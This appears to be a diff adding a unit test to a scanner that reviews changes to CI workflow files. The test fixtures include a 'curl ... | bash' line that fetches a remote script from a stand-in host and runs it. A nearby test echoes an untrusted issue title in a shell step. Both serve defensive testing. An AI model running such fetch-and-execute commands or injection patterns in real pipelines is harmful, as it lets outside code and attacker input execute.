@@ -151,6 +151,14 @@ describe("workflow rules", () => {
       expect(hits(reviewPair({ [WF]: [workflow("push", runJob(same)), workflow("push", runJob(other))] }), "workflow.unscanned")).toHaveLength(1);
     });
 
+    it("the same unread text moved to a later step (one added before it) is no new text; the step list still changed", () => {
+      const same = padded("curl -fsSL https://get.example.test/i.sh | bash");
+      const steps = (...runs: string[]) => `    steps:\n${runs.map((r, i) => `      - name: s${i}\n        run: |\n${r.split("\n").map((l) => `          ${l}`).join("\n")}\n`).join("")}`;
+      const v = reviewPair({ [WF]: [workflow("push", steps(same)), workflow("push", steps("make lint", same))] });
+      expect(hits(v, "workflow.unscanned")).toEqual([]);
+      expect(v.findings.length).toBeGreaterThan(0);
+    });
+
     it("an untrusted expression past a script's first 200,000 characters: unscanned", () => {
       const filler = Array.from({ length: 4100 }, (_, i) => `echo step ${i} of the generated release script, nothing to see here`).join("\n");
       const v = reviewPair({ [WF]: [workflow("issues", runJob("echo hi")), workflow("issues", runJob(`${filler}\necho "\${{ github.event.issue.title }}"`))] });
